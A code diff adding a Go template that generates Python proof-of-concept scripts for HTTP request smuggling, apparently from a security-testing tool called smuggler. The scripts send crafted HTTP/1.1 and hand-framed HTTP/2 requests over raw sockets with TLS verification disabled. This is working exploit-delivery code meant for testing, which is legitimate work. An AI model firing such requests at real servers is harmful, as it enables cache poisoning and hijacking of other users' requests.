@@ -0,0 +1,202 @@
+package poc
+
+import (
+	"bytes"
+	"strings"
+	"text/template"
+)
+
+// a Python 3 script with nothing but the standard library. h2 requests are framed by hand: each
+// field is an HPACK literal without Huffman coding, so header names and values are sent byte
+// for byte (CRLF, uppercase and all)
+var pyTmpl = template.Must(template.New("python").Funcs(template.FuncMap{
+	"bytes": func(s string) string { return pyString("b", s) },
+	"str":   func(s string) string { return pyString("", s) },
+	"oneline": func(s string) string {
+		return strings.NewReplacer("\r", `\r`, "\n", `\n`).Replace(s)
+	},
+}).Parse(`#!/usr/bin/env python3
+# {{.Technique}} proof of concept for {{oneline .Target}}, generated by smuggler.
+# {{.Technique.Description}}.
+#
+# the requests are sent as they are, the attack then the victim. usage: python3 <this file>
+import socket
+import ssl
+
+HOST = {{str .URL.Hostname}}
+CONNECT = ({{str .DialHost}}, {{.DialPort}})
+TLS = {{if .TLS}}True{{else}}False{{end}}
+
+# requests of each connection, in order
+{{- if .H2}}
+CONNS = [
+{{- range .Conns}}
+    [
+    {{- range .}}
+        ([
+        {{- range .Fields}}
+            ({{bytes .Name}}, {{bytes .Value}}),
+        {{- end}}
+        ], {{bytes .Body}}),
+    {{- end}}
+    ],
+{{- end}}
+]
+{{- else}}
+CONNS = [
+{{- range .Conns}}
+    [
+    {{- range .}}
+        {{bytes .Raw}},
+    {{- end}}
+    ],
+{{- end}}
+]
+{{- end}}
+
+
+def connect(alpn):
+    sock = socket.create_connection(CONNECT, timeout=10)
+    if not TLS:
+        return sock
+    ctx = ssl.create_default_context()
+    ctx.check_hostname = False
+    ctx.verify_mode = ssl.CERT_NONE
+    ctx.set_alpn_protocols([alpn])
+    return ctx.wrap_socket(sock, server_hostname=HOST)
+{{if .H2}}
+
+PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
+DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
+END_STREAM, ACK, END_HEADERS, PADDED, PRIORITY = 0x1, 0x1, 0x4, 0x8, 0x20
+MAX_FRAME = 16384
+STATUS = {8: 200, 9: 204, 10: 206, 11: 304, 12: 400, 13: 404, 14: 500}  # indexed :status fields
+
+
+def frame(kind, flags, stream, payload=b''):
+    return len(payload).to_bytes(3, 'big') + bytes([kind, flags]) + stream.to_bytes(4, 'big') + payload
+
+
+def hpack_int(i, bits):
+    limit = (1 << bits) - 1
+    if i < limit:
+        return bytes([i])
+    out = [limit]
+    i -= limit
+    while i >= 128:
+        out.append(0x80 | (i & 0x7f))
+        i >>= 7
+    out.append(i)
+    return bytes(out)
+
+
+def literal(name, value):
+    # literal without indexing, new name, no Huffman coding
+    return b'\x00' + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value
+
+
+def recv_exact(sock, n):
+    data = b''
+    while len(data) < n:
+        chunk = sock.recv(n - len(data))
+        if not chunk:
+            raise EOFError('connection closed')
+        data += chunk
+    return data
+
+
+def read_frame(sock):
+    head = recv_exact(sock, 9)
+    length = int.from_bytes(head[:3], 'big')
+    return head[3], head[4], int.from_bytes(head[5:], 'big') & 0x7fffffff, recv_exact(sock, length)
+
+
+def status(block):
+    if block and block[0] & 0x80 and block[0] & 0x7f in STATUS:
+        return str(STATUS[block[0] & 0x7f])
+    return 'HPACK ' + block[:16].hex()  # a status outside of the static table
+
+
+def send_request(sock, stream, fields, body):
+    block = b''.join(literal(name, value) for name, value in fields)
+    sock.sendall(frame(HEADERS, END_HEADERS | (0 if body else END_STREAM), stream, block))
+    for i in range(0, len(body), MAX_FRAME):
+        last = i + MAX_FRAME >= len(body)
+        sock.sendall(frame(DATA, END_STREAM if last else 0, stream, body[i:i + MAX_FRAME]))
+
+
+def read_response(sock, stream):
+    result = None
+    while True:
+        kind, flags, sid, payload = read_frame(sock)
+        if kind == SETTINGS and not flags & ACK:
+            sock.sendall(frame(SETTINGS, ACK, 0))
+        elif kind == PING and not flags & ACK:
+            sock.sendall(frame(PING, ACK, 0, payload))
+        elif kind == GOAWAY:
+            return result or 'GOAWAY'
+        elif sid != stream:
+            continue
+        elif kind == RST_STREAM:
+            return 'RST_STREAM %d' % int.from_bytes(payload, 'big')
+        elif kind == HEADERS and result is None:
+            if flags & PADDED:
+                payload = payload[1:len(payload) - payload[0]]
+            if flags & PRIORITY:
+                payload = payload[5:]
+            result = status(payload)
+        elif kind == DATA and payload:
+            inc = len(payload).to_bytes(4, 'big')
+            sock.sendall(frame(WINDOW_UPDATE, 0, 0, inc) + frame(WINDOW_UPDATE, 0, stream, inc))
+        if kind in (HEADERS, DATA) and flags & END_STREAM:
+            return result
+
+
+for i, reqs in enumerate(CONNS):
+    sock = connect('h2')
+    sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
+    for j, (fields, body) in enumerate(reqs):
+        stream = 2 * j + 1
+        send_request(sock, stream, fields, body)
+        try:
+            result = read_response(sock, stream)
+        except (OSError, EOFError) as e:
+            result = str(e) or 'timed out'
+        print('connection %d, request %d: %s' % (i + 1, j + 1, result))
+    sock.close()
+{{- else}}
+
+
+def read_statuses(sock, n):
+    # status lines of the responses, bodies aren't parsed
+    data = b''
+    while True:
+        lines = [line for line in data.split(b'\r\n') if line.startswith(b'HTTP/1.')]
+        if len(lines) >= n and b'\r\n\r\n' in data[data.rfind(lines[-1]):]:
+            return lines
+        try:
+            chunk = sock.recv(65536)
+        except OSError:
+            return lines
+        if not chunk:
+            return lines
+        data += chunk
+
+
+for i, reqs in enumerate(CONNS):
+    sock = connect('http/1.1')
+    sock.sendall(b''.join(reqs))
+    sock.settimeout(5)
+    for j, line in enumerate(read_statuses(sock, len(reqs))):
+        print('connection %d, request %d: %s' % (i + 1, j + 1, line.decode('latin-1')))
+    sock.close()
+{{- end}}
+`))
+
+func (p *poc) python() ([]File, error) {
+	var buf bytes.Buffer
+	if err := pyTmpl.Execute(&buf, p); err != nil {
+		return nil, err
+	}
+	return []File{{Name: ".py", Data: buf.Bytes()}}, nil
+}